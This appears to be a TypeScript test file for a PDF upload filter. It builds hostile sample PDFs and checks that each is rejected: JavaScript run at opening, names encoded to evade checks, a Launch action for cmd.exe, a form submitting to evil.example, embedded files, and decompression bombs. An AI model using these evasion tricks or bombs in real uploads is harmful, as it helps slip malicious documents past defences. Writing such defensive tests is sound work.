/** PDFs as people send them and as attackers build them, checked by the gate and its process. */
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { AppError } from '#core/kit/app-error.ts';
import { catalog, PAGE, PAGES, toPdf } from '#testing/pdf.ts';
import { judgeUpload } from './gates.ts';

const PDF = 'application/pdf';
const MB = 1024 * 1024;
type Bytes = Uint8Array<ArrayBuffer>;

async function outcome(bytes: Bytes): Promise<string> {
  try {
    return (await judgeUpload([PDF], bytes)).mimetype;
  } catch (error) {
    if (error instanceof AppError) return error.code;
    throw error;
  }
}

function join(parts: readonly Uint8Array[]): Bytes {
  return new Uint8Array(Buffer.concat(parts));
}

const toStream = (dictionary: string, data: Uint8Array) =>
  join([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);

/** The catalogue and objects 2 and 3 are not packed; object 5 is in a stream that only a cross-reference stream names. */
function packedPdf(hidden: Uint8Array): Bytes {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const size = () => parts.reduce((sum, part) => sum + part.length, 0);
  const rows = Buffer.alloc(7 * 7);
  const row = (id: number, type: number, place: number, index = 0) => {
    rows[id * 7] = type;
    rows.writeUInt32BE(place, id * 7 + 1);
    rows.writeUInt16BE(index, id * 7 + 5);
  };
  [catalog('/Names 5 0 R'), PAGES, PAGE].forEach((object, n) => {
    row(n + 1, 1, size());
    parts.push(Buffer.from(`${n + 1} 0 obj\n${object}\nendobj\n`));
  });
  row(4, 1, size());
  const packed = deflateSync(Buffer.concat([Buffer.from('5 0 '), hidden]));
  parts.push(Buffer.from('4 0 obj\n'), Buffer.from(toStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed)), Buffer.from('\nendobj\n'));
  row(5, 2, 4);
  const table = size();
  row(6, 1, table);
  parts.push(Buffer.from('6 0 obj\n'), Buffer.from(toStream('/Type /XRef /Size 7 /Root 1 0 R /W [1 4 2]', rows)));
  parts.push(Buffer.from(`\nendobj\nstartxref\n${table}\n%%EOF\n`));
  return join(parts);
}

const one = (more = '', others: readonly (string | Uint8Array)[] = []) => toPdf([catalog(more), PAGES, PAGE, ...others]);
const content = (data: Uint8Array) => toPdf([catalog(), PAGES, PAGE.replace('>>', '/Contents 4 0 R >>'), toStream('/Filter /FlateDecode', data)]);
/** A page tree whose pages are all in one list. */
const manyPages = (count: number) =>
  toPdf([
    catalog(),
    `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ')}] >>`,
    ...Array.from({ length: count }, () => PAGE),
  ]);

describe('PDF', () => {
  test.each<[string, () => Bytes, string]>([
    ['a page', () => one(), PDF],
    ['a page with packed content', () => content(deflateSync(Buffer.from('BT (Železo 12) Tj ET'))), PDF],
    ['objects in a stream', () => packedPdf(Buffer.from('<< /Dests << >> >>')), PDF],
    ['opening at a page', () => one('/OpenAction [3 0 R /Fit]'), PDF],
    ['a link', () => one('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lab.example) >> >>']), PDF],
    ['a hundred pages', () => manyPages(100), PDF],

    ['a script at opening', () => one('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'upload_unsafe'],
    ['an action at opening', () => one('/OpenAction 4 0 R', ['<< /S /Named /N /Print >>']), 'upload_unsafe'],
    ['a script by its name', () => one('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', ['<< /S /JavaScript >>']), 'upload_unsafe'],
    ['a script that nothing names', () => one('', ['<< /JS (x) >>']), 'upload_unsafe'],
    ['a script by an encoded name', () => one('', ['<< /S /J#61vaScript /J#53 (x) >>']), 'upload_unsafe'],
    ['a kind given by reference', () => one('', ['<< /S 5 0 R >>', '/Launch']), 'upload_unsafe'],
    ['a script deep inside', () => one('', ['[[[[<< /A [<< /AA << /O << /S /JavaScript >> >> >>] >>]]]]']), 'upload_unsafe'],
    ['a script in a packed object', () => packedPdf(Buffer.from('<< /JavaScript << /Names [] >> >>')), 'upload_unsafe'],
    ['a program to start', () => one('', ['<< /Type /Action /S /Launch /F (cmd.exe) >>']), 'upload_unsafe'],
    ['an embedded file', () => one('/Names << /EmbeddedFiles << /Names [] >> >>'), 'upload_unsafe'],
    ['an embedded file as a stream', () => one('', [toStream('/Type /EmbeddedFile', Buffer.from('PK'))]), 'upload_unsafe'],
    ['an attachment of a page', () => one('', ['<< /Type /Annot /Subtype /FileAttachment >>']), 'upload_unsafe'],
    ['a form that sends', () => one('', ['<< /S /SubmitForm /F (https://evil.example) >>']), 'upload_unsafe'],
    ['a form of XML', () => one('/AcroForm << /XFA [] >>'), 'upload_unsafe'],

    [
      'encrypted',
      () =>
        toPdf([catalog(), PAGES, PAGE, `<< /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> /P -4 >>`], {
          trailer: '/Encrypt 4 0 R /ID [<00> <00>]',
        }),
      'upload_encrypted',
    ],
    ['a hundred and one pages', () => manyPages(101), 'upload_too_complex'],
    ['two thousand million pages said', () => toPdf([catalog(), PAGES.replace('/Count 1', '/Count 2000000000'), PAGE]), 'upload_broken'],
    ['a page tree that comes back to itself', () => toPdf([catalog(), '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 50 >>']), 'upload_broken'],
    ['a catalogue that is itself', () => toPdf(['1 0 R']), 'upload_broken'],
    ['a hundred thousand levels', () => one('', ['['.repeat(100_000)]), 'upload_broken'],
    ['sixty levels', () => one('', ['['.repeat(60) + ']'.repeat(60)]), 'upload_too_complex'],
    [
      'sixty thousand objects',
      () =>
        one(
          '',
          Array.from({ length: 60_000 }, () => '0'),
        ),
      'upload_too_complex',
    ],

    ['nothing', () => new Uint8Array(), 'upload_empty'],
    ['a page of the web', () => join([Buffer.from('<html>')]), 'upload_type_wrong'],
    ['a page of the web that holds a PDF', () => join([Buffer.from('<script>alert(1)</script>\n'), one()]), 'upload_type_wrong'],
    ['a PDF with an archive behind it', () => join([one(), Buffer.from('PK\u0003\u0004'.repeat(30))]), 'upload_broken'],
    ['cut off', () => one().slice(0, 200), 'upload_broken'],
    ['without its table', () => join([Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n')]), 'upload_broken'],
    ['a first line alone', () => join([Buffer.from('%PDF-1.7\n%%EOF\n')]), 'upload_broken'],
    ['a stream that ends in the middle', () => content(deflateSync(Buffer.alloc(100_000, 'ab')).subarray(0, 60)), PDF],
  ])('%s', async (_, make, expected) => {
    expect(await outcome(make())).toBe(expected);
  });

  test('PDF bombs: packed content, content packed several times, packed objects are rejected, and the gate continues', async () => {
    const packed = (bytes: Uint8Array) => deflateSync(bytes, { level: 1 });
    const zeros = packed(Buffer.alloc(300 * MB));
    expect(await outcome(content(zeros))).toBe('upload_too_complex');
    const thrice = packed(packed(zeros));
    expect(await outcome(one('', [toStream('/Filter [/FlateDecode /FlateDecode /FlateDecode]', thrice)]))).toBe('upload_too_complex');
    expect(await outcome(packedPdf(Buffer.concat([Buffer.from('<< /A ('), Buffer.alloc(300 * MB, 'a'), Buffer.from(') >>')])))).toBe(
      'upload_too_complex',
    );
    expect(await outcome(one())).toBe(PDF);
  });
});
